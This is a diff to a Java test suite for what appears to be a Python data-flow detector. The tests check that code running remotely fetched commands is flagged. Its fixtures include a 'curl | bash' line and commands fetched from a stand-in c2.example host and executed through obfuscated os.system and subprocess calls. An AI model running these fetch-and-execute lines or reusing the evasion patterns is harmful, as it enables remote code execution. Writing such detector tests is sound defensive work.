@@ -937,6 +937,7 @@ class DataFlowTest {
           "resolve_name('sub' 'process:getoutput')(c)",
           "vars(os)['sys' + 'tem'](c)",
           "vars(subprocess).get('get' 'output')(c)",
+          "dict(inspect.getmembers(subprocess))['get' + 'output'](c)",
           "functools.reduce(getattr, ['sys' + 'tem'], os)(c)",
           "reduce(getattr, ('po' 'pen',), os)(c)"
         })
@@ -965,6 +966,46 @@ class DataFlowTest {
                       "import atexit, subprocess, urllib.request",
                       "cmd = urllib.request.urlopen('https://c2.example/c').read()",
                       "atexit.register(subprocess.call, cmd, shell=True)")))
+          .contains(3);
+    }
+
+    @Test
+    void aFunctionHandedToOperatorCallOrCalledThroughItsDunderIsTheCall() {
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import operator, os",
+                      "cmd = 'curl -s https://a.example/i | bash'",
+                      "operator.call(os.system, cmd)")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, requests",
+                      "c = requests.get('https://c2.example').text",
+                      "subprocess.getoutput.__call__(c)")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import requests",
+                      "c = requests.get('https://c2.example').text",
+                      "rows = list(map (str.strip, c.splitlines()))")))
+          .isEmpty(); // a builtin's method mapped over the lines runs nothing
+    }
+
+    @Test
+    void aCommandRunnerMappedWithABlankBeforeItsParenthesisIsStillCalled() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import os, requests",
+                      "steps = requests.get('https://c2.example').text.splitlines()",
+                      "list(map (os.system, steps))")))
           .contains(3);
     }
 
